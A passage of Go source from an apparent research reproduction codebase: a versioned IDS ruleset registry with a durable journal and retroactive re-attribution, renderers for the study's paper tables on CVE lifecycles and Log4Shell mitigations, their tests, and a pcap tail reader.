		sum := binary.LittleEndian.Uint32(b[off+4 : off+8])
		if length > maxJournalEntry || len(b)-off-journalFrameLen < int(length) {
			return off, nil
		}
		payload := b[off+journalFrameLen : off+journalFrameLen+int(length)]
		if crc32.Checksum(payload, journalCRC) != sum {
			return off, nil
		}
		entry, err := decodeEntry(payload)
		if err != nil || entry.gen <= j.gen {
			return off, nil
		}
		j.gen = entry.gen
		if apply != nil {
			apply(entry)
		}
		off += journalFrameLen + int(length)
	}
}

func decodeEntry(payload []byte) (journalEntry, error) {
	if len(payload) < 8 {
		return journalEntry{}, fmt.Errorf("registry: journal entry shorter than its generation header")
	}
	e := journalEntry{gen: binary.LittleEndian.Uint64(payload[:8])}
	parsed, errs := rules.ParseDatedSet(bytes.NewReader(payload[8:]))
	for _, err := range errs {
		// The journal only ever holds deltas that parsed cleanly at Publish
		// time; an error here means corruption that beat the CRC, or a
		// same-rev conflict from a splice. Either way the entry is not
		// trustworthy.
		return journalEntry{}, fmt.Errorf("registry: journal entry gen %d: %w", e.gen, err)
	}
	e.delta = parsed
	return e, nil
}

// append durably writes one publication: the frame is written and fsynced
// before append returns, so a returned generation is a promise.
func (j *rulesetJournal) append(gen uint64, delta []rules.DatedRule) error {
	if j.bad != nil {
		return j.bad
	}
	var text bytes.Buffer
	if err := rules.WriteDatedRuleset(&text, delta); err != nil {
		return err
	}
	payload := make([]byte, 8, 8+text.Len())
	binary.LittleEndian.PutUint64(payload, gen)
	payload = append(payload, text.Bytes()...)
	if len(payload) > maxJournalEntry {
		return fmt.Errorf("registry: delta of %d bytes exceeds journal entry cap", len(payload))
	}
	frame := make([]byte, 0, journalFrameLen+len(payload))
	frame = binary.LittleEndian.AppendUint32(frame, uint32(len(payload)))
	frame = binary.LittleEndian.AppendUint32(frame, crc32.Checksum(payload, journalCRC))
	frame = append(frame, payload...)
	if _, err := j.f.Write(frame); err != nil {
		if terr := j.f.Truncate(j.size); terr != nil {
			j.bad = fmt.Errorf("registry: journal poisoned after failed publish: %w", terr)
		} else {
			j.f.Seek(j.size, 0)
		}
		return fmt.Errorf("registry: appending publish: %w", err)
	}
	if err := j.f.Sync(); err != nil {
		return fmt.Errorf("registry: syncing journal: %w", err)
	}
	j.size += int64(len(frame))
	j.gen = gen
	return nil
}

// tail re-reads the journal file and applies entries newer than j.gen — the
// cross-process pickup path (waybackctl publishing into a directory a
// running daemon also has open).
func (j *rulesetJournal) tail(apply func(journalEntry)) error {
	raw, err := j.fs.ReadFile(j.path)
	if err != nil {
		return err
	}
	if int64(len(raw)) <= j.size {
		return nil
	}
	if int64(len(raw)) < j.size || len(raw) < len(journalMagic) {
		return fmt.Errorf("registry: journal shrank underneath an open handle")
	}
	good, err := j.scan(raw[j.size:], apply)
	if err != nil {
		return err
	}
	newSize := j.size + int64(good)
	if _, err := j.f.Seek(newSize, 0); err != nil {
		return err
	}
	j.size = newSize
	return nil
}

func (j *rulesetJournal) Close() error { return j.f.Close() }
