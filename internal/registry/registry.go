// Package registry is the versioned ruleset registry: the subsystem that
// lets the study's ruleset evolve while the pipeline runs, without ever
// lying about what was known when.
//
// Three pieces:
//
//   - An append-only ruleset journal (one entry per publication, each a
//     dated-ruleset delta under a monotonic generation). The merged view of
//     base ruleset + journal is the registry's current ruleset.
//   - An RCU-style engine swap: every publication compiles a fresh
//     ids.Engine and swaps it behind an atomic pointer. Live pipelines load
//     the engine per batch, so a swap lands cleanly between batches — no
//     session is dropped or matched twice, and a batch is always labeled by
//     exactly one generation.
//   - Retroactive re-attribution: ingest persists per-session digests; a
//     publication triggers a rescan that replays the digests against the new
//     engine and emits amendments (see eventstore.Amendment) where the
//     earliest-published-match label changed. History converges to what a
//     cold run over the final ruleset would have produced.
//
// Compiled prefilter automatons are cached per ruleset generation in the
// registry directory (see ids.AutomatonCache), so re-opening or re-publishing
// a known pattern set skips the 48k-pattern build.
package registry

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"sync"
	"sync/atomic"

	"repro/internal/eventstore"
	"repro/internal/fault"
	"repro/internal/ids"
	"repro/internal/rules"
)

// Config configures a registry.
type Config struct {
	// Dir is the registry directory (journal, digest log, automaton cache,
	// rescan marker).
	Dir string
	// FS substitutes a filesystem (nil = the real one).
	FS fault.FS
	// Base is the generation-0 ruleset (the study snapshot); journal entries
	// fold over it.
	Base []rules.DatedRule
	// Engine is the engine configuration every generation compiles with. Its
	// AutomatonCache field is overridden to the registry's on-disk cache.
	Engine ids.Config
	// SampleLimit caps per-direction digest samples (0 = DefaultSampleLimit).
	SampleLimit int
}

// Registry is an open versioned ruleset registry.
type Registry struct {
	cfg Config
	fs  fault.FS
	dir string

	// engine is the RCU read side: pipelines Load it per batch and never
	// block a publish; a publish compiles off to the side and Stores.
	engine atomic.Pointer[ids.Engine]
	gen    atomic.Uint64

	// mu serializes the write side (Publish/Refresh) and guards ruleset.
	mu      sync.Mutex
	journal *rulesetJournal
	ruleset []rules.DatedRule // current merged view, sorted by SID

	digests *digestLog

	// Rescan progress for /metrics: pending is the digest backlog the next
	// rescan must cover (set at publish, falls to 0 as a rescan proceeds),
	// done counts digests rescanned since open.
	rescanPending atomic.Int64
	rescanDone    atomic.Int64
	rescanMu      sync.Mutex // serializes Rescan runs

	closed atomic.Bool
}

// Open opens (creating if needed) the registry in cfg.Dir, folds the journal
// over the base ruleset, and compiles the current engine (via the on-disk
// automaton cache when warm). If a publication's rescan was interrupted by a
// crash, RescanNeeded reports true and the next Rescan covers everything —
// rescans are idempotent, so restarting from scratch is always safe.
func Open(cfg Config) (*Registry, error) {
	fs := fault.Or(cfg.FS)
	if err := fs.MkdirAll(cfg.Dir, 0o755); err != nil {
		return nil, err
	}
	r := &Registry{cfg: cfg, fs: fs, dir: cfg.Dir}
	r.ruleset = append([]rules.DatedRule(nil), cfg.Base...)
	j, err := openJournal(fs, cfg.Dir, func(e journalEntry) {
		r.ruleset = rules.MergeDated(r.ruleset, e.delta)
	})
	if err != nil {
		return nil, err
	}
	r.journal = j
	r.gen.Store(j.gen)
	r.digests, err = openDigestLog(fs, cfg.Dir)
	if err != nil {
		j.Close()
		return nil, err
	}
	r.engine.Store(r.compile(r.ruleset))
	if r.RescanNeeded() {
		r.rescanPending.Store(r.digests.Len())
	}
	return r, nil
}

// compile builds an engine for the given merged ruleset through the on-disk
// automaton cache.
func (r *Registry) compile(ruleset []rules.DatedRule) *ids.Engine {
	cfg := r.cfg.Engine
	cfg.AutomatonCache = &dirCache{fs: r.fs, dir: r.dir}
	return ids.NewEngine(ruleset, cfg)
}

// Engine returns the current engine. The pointer is immutable; pipelines
// capture it once per batch so every batch is labeled by one generation.
func (r *Registry) Engine() *ids.Engine { return r.engine.Load() }

// Generation returns the current ruleset generation (0 = base only).
func (r *Registry) Generation() uint64 { return r.gen.Load() }

// NumRules returns the current merged ruleset size.
func (r *Registry) NumRules() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.ruleset)
}

// Ruleset returns a copy of the current merged ruleset, sorted by SID.
func (r *Registry) Ruleset() []rules.DatedRule {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]rules.DatedRule(nil), r.ruleset...)
}

// Publish appends a delta to the journal (durably), merges it, compiles the
// new generation's engine, and swaps it live. It returns the new generation.
// The rescan-needed marker is set before Publish returns: even a crash
// immediately after leaves the re-attribution debt recorded.
func (r *Registry) Publish(delta []rules.DatedRule) (uint64, error) {
	if len(delta) == 0 {
		return 0, fmt.Errorf("registry: empty delta")
	}
	deduped, errs := rules.DedupDatedSIDs(delta)
	if len(errs) > 0 {
		return 0, fmt.Errorf("registry: delta has conflicting rules: %v", errs[0])
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	gen := r.journal.gen + 1
	if err := r.journal.append(gen, deduped); err != nil {
		return 0, err
	}
	merged := rules.MergeDated(r.ruleset, deduped)
	eng := r.compile(merged)
	// Marker before swap: once the new engine can label anything, the
	// obligation to reconcile history is already durable.
	if err := r.setRescanMarker(gen); err != nil {
		return 0, err
	}
	r.ruleset = merged
	r.engine.Store(eng)
	r.gen.Store(gen)
	r.rescanPending.Store(r.digests.Len())
	return gen, nil
}

// Refresh picks up publications appended to the journal by another process
// (waybackctl against a live daemon's directory). It returns the generation
// after the pickup; when nothing is new it is a cheap stat-sized read.
func (r *Registry) Refresh() (uint64, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	merged := r.ruleset
	applied := false
	err := r.journal.tail(func(e journalEntry) {
		merged = rules.MergeDated(merged, e.delta)
		applied = true
	})
	if err != nil {
		return r.gen.Load(), err
	}
	if !applied {
		return r.gen.Load(), nil
	}
	eng := r.compile(merged)
	r.ruleset = merged
	r.engine.Store(eng)
	r.gen.Store(r.journal.gen)
	if r.RescanNeeded() {
		r.rescanPending.Store(r.digests.Len())
	}
	return r.journal.gen, nil
}

// RecordDigests persists per-session digests (see Digest). Ingest calls it
// per matched batch; durability follows the next SyncDigests.
func (r *Registry) RecordDigests(ds []Digest) error { return r.digests.Append(ds) }

// SyncDigests fsyncs the digest log; ingest calls it at its checkpoint
// cadence so digests are never more stale than events.
func (r *Registry) SyncDigests() error { return r.digests.Sync() }

// DigestCount returns the number of persisted session digests.
func (r *Registry) DigestCount() int64 { return r.digests.Len() }

// SampleLimit returns the configured digest sample cap.
func (r *Registry) SampleLimit() int {
	if r.cfg.SampleLimit > 0 {
		return r.cfg.SampleLimit
	}
	return DefaultSampleLimit
}

// RescanPending returns the digest backlog awaiting re-attribution; zero
// when history is reconciled with the current generation.
func (r *Registry) RescanPending() int64 { return r.rescanPending.Load() }

// RescanDone returns digests rescanned since open.
func (r *Registry) RescanDone() int64 { return r.rescanDone.Load() }

// rescanMarkerPath holds the generation whose publication awaits rescan.
func (r *Registry) rescanMarkerPath() string { return filepath.Join(r.dir, "rescan.pending") }

func (r *Registry) setRescanMarker(gen uint64) error {
	// WriteFile is not fsynced through every fault.FS; write-then-sync via a
	// handle so the marker survives the crash it exists for.
	f, err := r.fs.OpenFile(r.rescanMarkerPath(), os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o644)
	if err != nil {
		return err
	}
	if _, err := f.Write([]byte(strconv.FormatUint(gen, 10) + "\n")); err != nil {
		f.Close()
		return err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// RescanNeeded reports whether a publication's re-attribution has not yet
// completed (including after a crash mid-rescan).
func (r *Registry) RescanNeeded() bool {
	_, err := r.fs.ReadFile(r.rescanMarkerPath())
	return err == nil
}

// RescanStats summarizes one rescan run.
type RescanStats struct {
	Digests    int // digests replayed
	Amended    int // label changes emitted
	Additions  int // previously-unmatched sessions that gained a label
	Retracted  int // sessions whose label was withdrawn
	SkippedCap int // truncated digests whose label change was not trusted
}

// Rescan replays every persisted digest against the current engine and
// appends amendments to st where the earliest-published-match label changed.
// It is idempotent: amendments carry the ingest-time original label and the
// ruleset generation, and resolution takes the newest generation, so running
// it twice (or restarting it after a crash — the pending marker survives
// until completion) converges to the same history a cold run over the final
// ruleset would produce.
func (r *Registry) Rescan(st *eventstore.Store) (RescanStats, error) {
	r.rescanMu.Lock()
	defer r.rescanMu.Unlock()
	eng := r.Engine() // one generation labels the whole rescan
	gen := r.Generation()
	var stats RescanStats
	var pending []eventstore.Amendment
	total := r.digests.Len()
	r.rescanPending.Store(total)
	flush := func() error {
		if len(pending) == 0 {
			return nil
		}
		if err := st.AppendAmendments(pending); err != nil {
			return err
		}
		pending = pending[:0]
		return nil
	}
	err := r.digests.walk(func(d Digest) error {
		stats.Digests++
		r.rescanDone.Add(1)
		if n := r.rescanPending.Load(); n > 0 {
			r.rescanPending.Add(-1)
		}
		s := d.Session()
		ev, matched := ids.MatchSession(&s, eng)
		switch {
		case !matched && d.OrigSID == 0:
			return nil // still unmatched
		case matched && ev.SID == d.OrigSID && ev.CVE == d.OrigCVE:
			return nil // label unchanged
		case d.Truncated:
			// The digest saw less than the cold pipeline; a differing label
			// could be an artifact of the cap. Do not amend on partial
			// evidence.
			stats.SkippedCap++
			return nil
		}
		a := eventstore.Amendment{OrigSID: d.OrigSID, OrigCVE: d.OrigCVE, Gen: gen}
		if matched {
			a.Event = ev
			if d.OrigSID == 0 {
				stats.Additions++
			}
		} else {
			// Retraction: keep the session identity, zero the label.
			a.Event = ids.Event{Time: d.Start, Src: d.Client, Dst: d.Server}
			stats.Retracted++
		}
		stats.Amended++
		pending = append(pending, a)
		if len(pending) >= 1024 {
			return flush()
		}
		return nil
	})
	if err != nil {
		return stats, err
	}
	if err := flush(); err != nil {
		return stats, err
	}
	// Completion: drop the marker only after every amendment is durable
	// (AppendAmendments fsyncs). A crash before this point re-runs the whole
	// rescan; idempotence makes that free of double effects.
	if r.Generation() == gen {
		if err := r.fs.Remove(r.rescanMarkerPath()); err != nil && !os.IsNotExist(err) {
			return stats, err
		}
		r.rescanPending.Store(0)
	}
	return stats, nil
}

// Close closes the journal and digest log.
func (r *Registry) Close() error {
	if r.closed.Swap(true) {
		return nil
	}
	err := r.journal.Close()
	if derr := r.digests.f.Close(); derr != nil && err == nil {
		err = derr
	}
	return err
}

// dirCache is the on-disk ids.AutomatonCache: one file per pattern-set key
// in the registry directory. Corrupt or missing entries read as misses;
// stores are best-effort (a failed cache write costs a rebuild, nothing
// else).
type dirCache struct {
	fs  fault.FS
	dir string
}

func (c *dirCache) path(key string) string {
	return filepath.Join(c.dir, "automaton-"+key+".bin")
}

func (c *dirCache) Load(key string) []byte {
	b, err := c.fs.ReadFile(c.path(key))
	if err != nil {
		return nil
	}
	return b
}

func (c *dirCache) Store(key string, data []byte) {
	// Write-then-rename so a crash mid-store never leaves a torn cache file
	// under the final name (ids validates on load anyway; this keeps the
	// common path clean).
	tmp := c.path(key) + ".tmp"
	if err := c.fs.WriteFile(tmp, data, 0o644); err != nil {
		return
	}
	c.fs.Rename(tmp, c.path(key))
}
