// Package report renders the study's tables and figure series as aligned
// ASCII tables and CSV files, matching the rows and columns the paper
// prints. The renderers are deliberately dumb: analysis packages hand over
// fully computed values.
package report

import (
	"encoding/csv"
	"fmt"
	"io"
	"strings"

	"repro/internal/stats"
)

// Table is a generic titled table.
type Table struct {
	Title   string
	Headers []string
	Rows    [][]string
}

// AddRow appends a row, formatting each cell with %v.
func (t *Table) AddRow(cells ...any) {
	row := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case float64:
			row[i] = fmt.Sprintf("%.2f", v)
		case string:
			row[i] = v
		default:
			row[i] = fmt.Sprintf("%v", v)
		}
	}
	t.Rows = append(t.Rows, row)
}

// Render writes the table as aligned ASCII.
func (t Table) Render(w io.Writer) error {
	widths := make([]int, len(t.Headers))
	for i, h := range t.Headers {
		widths[i] = len(h)
	}
	for _, row := range t.Rows {
		for i, cell := range row {
			if i < len(widths) && len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	if t.Title != "" {
		if _, err := fmt.Fprintf(w, "%s\n", t.Title); err != nil {
			return err
		}
	}
	writeRow := func(cells []string) error {
		var b strings.Builder
		for i, cell := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			b.WriteString(cell)
			if pad := widths[i] - len(cell); pad > 0 && i < len(cells)-1 {
				b.WriteString(strings.Repeat(" ", pad))
			}
		}
		_, err := fmt.Fprintln(w, b.String())
		return err
	}
	if err := writeRow(t.Headers); err != nil {
		return err
	}
	var sep []string
	for _, wd := range widths {
		sep = append(sep, strings.Repeat("-", wd))
	}
	if err := writeRow(sep); err != nil {
		return err
	}
	for _, row := range t.Rows {
		if err := writeRow(row); err != nil {
			return err
		}
	}
	return nil
}

// String renders to a string, for logs and tests.
func (t Table) String() string {
	var b strings.Builder
	_ = t.Render(&b)
	return b.String()
}

// WriteCSV writes headers + rows as CSV.
func (t Table) WriteCSV(w io.Writer) error {
	cw := csv.NewWriter(w)
	if err := cw.Write(t.Headers); err != nil {
		return err
	}
	for _, row := range t.Rows {
		if err := cw.Write(row); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// Series is one plottable figure curve: (x, y) points plus labels.
type Series struct {
	Name   string
	XLabel string
	YLabel string
	Points []stats.Point
}

// FromECDF converts an ECDF into a Series.
func FromECDF(name, xlabel string, e *stats.ECDF) Series {
	s := Series{Name: name, XLabel: xlabel, YLabel: "CDF"}
	if e != nil {
		s.Points = e.Points()
	}
	return s
}

// WriteSeriesCSV writes one or more series in long form
// (series,x,y per row) so external plotters can facet them.
func WriteSeriesCSV(w io.Writer, series ...Series) error {
	cw := csv.NewWriter(w)
	if err := cw.Write([]string{"series", "x", "y"}); err != nil {
		return err
	}
	for _, s := range series {
		for _, p := range s.Points {
			if err := cw.Write([]string{s.Name, fmt.Sprintf("%g", p.X), fmt.Sprintf("%g", p.Y)}); err != nil {
				return err
			}
		}
	}
	cw.Flush()
	return cw.Error()
}

// Sparkline renders a crude textual CDF: useful for eyeballing shapes in
// terminal output without a plotting stack.
func Sparkline(e *stats.ECDF, width int) string {
	if e == nil || width < 2 {
		return ""
	}
	blocks := []rune("▁▂▃▄▅▆▇█")
	lo, hi := e.Min(), e.Max()
	if hi == lo {
		hi = lo + 1
	}
	var b strings.Builder
	for i := 0; i < width; i++ {
		x := lo + (hi-lo)*float64(i)/float64(width-1)
		y := e.At(x)
		idx := int(y * float64(len(blocks)-1))
		if idx < 0 {
			idx = 0
		}
		if idx >= len(blocks) {
			idx = len(blocks) - 1
		}
		b.WriteRune(blocks[idx])
	}
	return b.String()
}

// HistogramTable converts a histogram into a table of bin rows.
func HistogramTable(title string, binLabel string, h *stats.Histogram, labelFor func(i int) string) Table {
	t := Table{Title: title, Headers: []string{binLabel, "count"}}
	for i, c := range h.Counts {
		label := labelFor(i)
		t.AddRow(label, c)
	}
	if h.Under > 0 {
		t.AddRow("(below range)", h.Under)
	}
	if h.Over > 0 {
		t.AddRow("(above range)", h.Over)
	}
	return t
}
