package report

import (
	"bytes"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/lifecycle"
	"repro/internal/stats"
)

func TestTableRender(t *testing.T) {
	tab := Table{Title: "T", Headers: []string{"a", "bb"}}
	tab.AddRow("x", 1)
	tab.AddRow("longer", 2.5)
	out := tab.String()
	if !strings.Contains(out, "T\n") {
		t.Errorf("missing title:\n%s", out)
	}
	if !strings.Contains(out, "longer") || !strings.Contains(out, "2.50") {
		t.Errorf("missing cells:\n%s", out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 4 { // title, header, separator, 2 rows -> 5? title+header+sep+2 = 5
		if len(lines) != 5 {
			t.Errorf("unexpected line count %d:\n%s", len(lines), out)
		}
	}
}

func TestTableCSV(t *testing.T) {
	tab := Table{Headers: []string{"a", "b"}}
	tab.AddRow("x,y", "z")
	var buf bytes.Buffer
	if err := tab.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	got := buf.String()
	if !strings.Contains(got, `"x,y"`) {
		t.Errorf("CSV quoting broken: %q", got)
	}
}

func TestFromECDFAndSeriesCSV(t *testing.T) {
	e := stats.MustECDF([]float64{1, 2, 2, 3})
	s := FromECDF("fig", "days", e)
	if len(s.Points) != 3 {
		t.Fatalf("points = %d", len(s.Points))
	}
	var buf bytes.Buffer
	if err := WriteSeriesCSV(&buf, s); err != nil {
		t.Fatal(err)
	}
	if got := strings.Count(buf.String(), "\n"); got != 4 { // header + 3 points
		t.Errorf("CSV lines = %d:\n%s", got, buf.String())
	}
	empty := FromECDF("none", "days", nil)
	if len(empty.Points) != 0 {
		t.Error("nil ECDF should give empty series")
	}
}

func TestSparkline(t *testing.T) {
	e := stats.MustECDF([]float64{0, 1, 2, 3, 4, 5, 6, 7, 8, 9})
	s := Sparkline(e, 10)
	if len([]rune(s)) != 10 {
		t.Errorf("sparkline width = %d", len([]rune(s)))
	}
	if Sparkline(nil, 10) != "" {
		t.Error("nil ECDF sparkline should be empty")
	}
}

func TestHistogramTable(t *testing.T) {
	h, _ := stats.NewHistogram(0, 5, 3)
	h.Add(1)
	h.Add(6)
	h.Add(-2)
	h.Add(99)
	tab := HistogramTable("H", "bin", h, func(i int) string { return "b" })
	out := tab.String()
	if !strings.Contains(out, "(below range)") || !strings.Contains(out, "(above range)") {
		t.Errorf("out-of-range rows missing:\n%s", out)
	}
}

func TestPaperTables(t *testing.T) {
	if rows := Table1().Rows; len(rows) != 9 {
		t.Errorf("Table 1 rows = %d, want 9", len(rows))
	}
	if rows := Table2().Rows; len(rows) != 7 {
		t.Errorf("Table 2 rows = %d, want 7", len(rows))
	}
	t3 := Table3()
	if !strings.Contains(t3, "Table 3a") || !strings.Contains(t3, "Table 3b") {
		t.Error("Table 3 missing matrices")
	}
	if rows := Table6().Rows; len(rows) != 15 {
		t.Errorf("Table 6 rows = %d, want 15 SIDs", len(rows))
	}
	if rows := AppendixETable().Rows; len(rows) != 63 {
		t.Errorf("Appendix E rows = %d, want 63", len(rows))
	}
}

func TestDesiderataTable(t *testing.T) {
	results := core.EvaluateDesiderata(lifecycle.StudyTimelines(), core.PublishedBaselines())
	tab := DesiderataTable("Table 4", results)
	if len(tab.Rows) != 9 {
		t.Fatalf("rows = %d", len(tab.Rows))
	}
	out := tab.String()
	for _, want := range []string{"V < A", "X < A", "0.90"} {
		if !strings.Contains(out, want) {
			t.Errorf("table missing %q:\n%s", want, out)
		}
	}
}
