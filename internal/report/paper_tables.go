package report

import (
	"fmt"

	"repro/internal/core"
	"repro/internal/datasets"
)

// Builders for the paper's specific tables.

// Table1 reproduces the prior-work survey table (documentation only).
func Table1() Table {
	t := Table{
		Title:   "Table 1: Empirical studies of CVE lifecycles",
		Headers: []string{"Work", "Attack Traffic", "# CVEs", "Vantage Point", "Dates", "Events"},
	}
	t.AddRow("Arbaugh et al.", "yes", "3", "Common Vulnerabilities", "1996-1999", "V F P X A")
	t.AddRow("Frei et al.", "", "27k", "Commodity CVEs", "1996-2008", "F P X")
	t.AddRow("Bilge & Dumitras", "yes", "18", "Antivirus Signatures", "2008-2011", "P X A")
	t.AddRow("Zhang et al.", "", "9", "Cloud OS CVEs", "2012", "P D")
	t.AddRow("Li & Paxson", "", "3.1k", "Open Source CVEs", "2005-2016", "F P")
	t.AddRow("Alexopoulos et al.", "", "12k", "Open Source CVEs", "2011-2020", "F P")
	t.AddRow("Householder et al.", "", "2.7k", "Microsoft CVEs", "2017-2020", "F P A")
	t.AddRow("Householder et al.", "", "73k", "Commodity CVEs", "2015-2019", "P X")
	t.AddRow("This Work", "yes", "63", "DSCOPE-observed CVEs", "2021-2023", "V F P D X A")
	return t
}

// Table2 lists the data sources (documentation only).
func Table2() Table {
	t := Table{
		Title:   "Table 2: Data Sources",
		Headers: []string{"Dataset", "Usage"},
	}
	t.AddRow("DSCOPE", "Application-layer exploit traffic (A)")
	t.AddRow("Cisco/Talos ruleset", "Snort Commercial IDS ruleset")
	t.AddRow("Cisco/Talos history", "Snort IDS rule availability history (F, D)")
	t.AddRow("Cisco/Talos reports", "Talos vulnerability report history (V)")
	t.AddRow("NVD", "CVE publication dates and severities (P)")
	t.AddRow("CISA KEV", "Known Exploited Vulnerabilities (A)")
	t.AddRow("Suciu et al.", "CVE exploit dates & exploitation (X)")
	return t
}

// Table3 renders both desiderata matrices.
func Table3() string {
	hs := core.HouseholderSpringMatrix()
	tw := core.ThisWorkMatrix()
	return "Table 3a: Householder & Spring\n" + hs.Render() +
		"\nTable 3b: This work\n" + tw.Render()
}

// DesiderataTable renders Table 4 or Table 5 rows.
func DesiderataTable(title string, results []core.DesideratumResult) Table {
	t := Table{
		Title:   title,
		Headers: []string{"Desideratum", "Satisfied", "Baseline", "Skill", "n"},
	}
	for _, r := range results {
		t.AddRow(r.Pair.String(), r.Satisfied, r.Baseline, r.Skill, r.Evaluated)
	}
	return t
}

// Table6 renders the Log4Shell mitigation-variant table.
func Table6() Table {
	t := Table{
		Title:   "Table 6: Log4Shell Mitigation Variants",
		Headers: []string{"Group", "D - P", "SID", "A - D", "Context", "Match", "Adaptation"},
	}
	for _, g := range datasets.Log4ShellGroups() {
		for i, s := range g.SIDs {
			dp := ""
			if i == 0 {
				dp = datasets.FormatPaperDuration(g.DMinusP)
			}
			name := ""
			if i == 0 {
				name = g.Name
			}
			t.AddRow(name, dp, s.SID, datasets.FormatPaperDuration(s.AMinusD), string(s.Context), s.Match, s.Adaptation)
		}
	}
	return t
}

// AppendixETable renders the studied-CVE listing.
func AppendixETable() Table {
	t := Table{
		Title: "Appendix E: Studied CVEs",
		Headers: []string{
			"CVE", "P", "Events", "Description", "Impact", "D - P", "X - P", "A - P", "Expl.",
		},
	}
	for _, c := range datasets.StudyCVEs() {
		expl := "-"
		if c.Exploitability >= 0 {
			expl = fmt.Sprintf("%d", c.Exploitability)
		}
		desc := c.Description
		if len(desc) > 48 {
			desc = desc[:45] + "..."
		}
		t.AddRow(c.ID, c.Published.Format("2006-01-02"), c.Events, desc, c.Impact,
			datasets.FormatPaperDuration(c.DMinusP),
			datasets.FormatPaperDuration(c.XMinusP),
			datasets.FormatPaperDuration(c.AMinusP),
			expl)
	}
	return t
}

// KEVTable summarizes the KEV comparison headline numbers (Findings 15-17).
func KEVTable(cmp core.KEVComparison) Table {
	t := Table{
		Title:   "KEV comparison (Section 7.2)",
		Headers: []string{"Metric", "Value", "Paper"},
	}
	t.AddRow("Joinable shared CVEs", len(cmp.DeltaDays), "44")
	t.AddRow("Study CVEs in KEV", cmp.OverlapCount, "44 (70%)")
	t.AddRow("KEV P(A < P)", cmp.KevPrePublicationRate, "0.18")
	t.AddRow("DSCOPE P(A < P)", cmp.DscopePrePublicationRate, "0.10")
	t.AddRow("Telescope-first share", cmp.DscopeFirstShare, "0.59")
	t.AddRow("Seen >30d before KEV", cmp.Over30DaysShare, "0.50")
	return t
}
