package pcapio

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"time"
)

// Tailing support for live ingest: a long-running deployment appends to the
// newest capture segment while a consumer replays it concurrently. The
// TailReader reads a classic pcap file at record granularity and never
// consumes a partial record, so it can resume exactly where it stopped once
// the writer has appended more bytes.

// TailReader incrementally reads a classic pcap file that may still be
// growing. Next returns io.EOF whenever no complete record is currently
// available — including before the file header has fully landed — and a
// later call picks up from the same position. Unlike Reader, a truncated
// trailing record is not an error: it is simply data that has not arrived
// yet. Whether it ever will is the caller's call (see Remainder).
type TailReader struct {
	f      *os.File
	off    int64
	parsed bool
	hdr    fileHeader
}

// NewTailReader tails f from the beginning. The caller retains ownership of
// the file handle.
func NewTailReader(f *os.File) *TailReader { return &TailReader{f: f} }

// Offset returns the byte offset of the first unconsumed byte: everything
// before it has been returned as complete records (or is the file header).
func (t *TailReader) Offset() int64 { return t.off }

// LinkType returns the file's link type; valid once Next has returned at
// least one record (the header must have been parsed).
func (t *TailReader) LinkType() uint32 { return t.hdr.linkType }

// Next returns the next complete record. io.EOF means "nothing more right
// now": the position is retained and Next may be called again after the
// writer appends. Malformed headers and snaplen abuse are permanent errors.
func (t *TailReader) Next() (Packet, error) {
	var p Packet
	if err := t.NextInto(&p); err != nil {
		return Packet{}, err
	}
	return p, nil
}

// NextInto is Next into a caller-owned Packet, reusing p.Data's backing
// array when its capacity suffices. On a non-nil error (including the
// retryable io.EOF) the contents of p are unspecified; the read position is
// retained exactly as for Next.
func (t *TailReader) NextInto(p *Packet) error {
	if !t.parsed {
		var hdr [fileHeaderLen]byte
		n, err := t.f.ReadAt(hdr[:], 0)
		if n < fileHeaderLen {
			if err != nil && err != io.EOF {
				return err
			}
			return io.EOF
		}
		fh, err := parseFileHeader(hdr[:])
		if err != nil {
			return err
		}
		t.hdr = fh
		t.parsed = true
		t.off = fileHeaderLen
	}
	var rec [recordHeaderLen]byte
	n, err := t.f.ReadAt(rec[:], t.off)
	if n < recordHeaderLen {
		if err != nil && err != io.EOF {
			return err
		}
		return io.EOF
	}
	sec := t.hdr.order.Uint32(rec[0:4])
	frac := t.hdr.order.Uint32(rec[4:8])
	capLen := t.hdr.order.Uint32(rec[8:12])
	origLen := t.hdr.order.Uint32(rec[12:16])
	if t.hdr.snaplen > 0 && capLen > t.hdr.snaplen {
		return fmt.Errorf("%w: caplen %d > snaplen %d", ErrSnaplenAbuse, capLen, t.hdr.snaplen)
	}
	growData(p, int(capLen))
	n, err = t.f.ReadAt(p.Data, t.off+recordHeaderLen)
	if n < int(capLen) {
		if err != nil && err != io.EOF {
			return err
		}
		return io.EOF
	}
	t.off += recordHeaderLen + int64(capLen)
	nanos := int64(frac)
	if !t.hdr.nano {
		nanos *= 1000
	}
	p.Timestamp = time.Unix(int64(sec), nanos).UTC()
	p.OrigLen = int(origLen)
	return nil
}

// Remainder reports how many bytes past the consumed offset the file holds.
// For a segment the writer has finished (a newer segment exists), a nonzero
// remainder is trailing garbage from an interrupted write: the ingest
// pipeline skips it, exactly as the eventstore truncates a torn tail.
func (t *TailReader) Remainder() (int64, error) {
	info, err := t.f.Stat()
	if err != nil {
		return 0, err
	}
	return info.Size() - t.off, nil
}

// Segments lists the capture segments under dir whose base name starts with
// "prefix-", sorted by name. RotatingWriter zero-pads sequence numbers, so
// lexical order is write order.
func Segments(dir, prefix string) ([]string, error) {
	matches, err := filepath.Glob(filepath.Join(dir, prefix+"-*.pcap"))
	if err != nil {
		return nil, err
	}
	sort.Strings(matches)
	return matches, nil
}
