package pcapio

import (
	"bytes"
	"io"
	"testing"
	"time"

	"repro/internal/fuzzcorpus"
)

// fuzzCaptures builds one valid classic-pcap and one valid pcapng capture,
// each holding a few records, as fuzz seeds. Truncated and bit-flipped
// variants are derived from them in the fuzz seeds below.
func fuzzCaptures(f testing.TB) (pcap, pcapng []byte) {
	f.Helper()
	base := time.Date(2021, 11, 1, 0, 0, 0, 0, time.UTC)

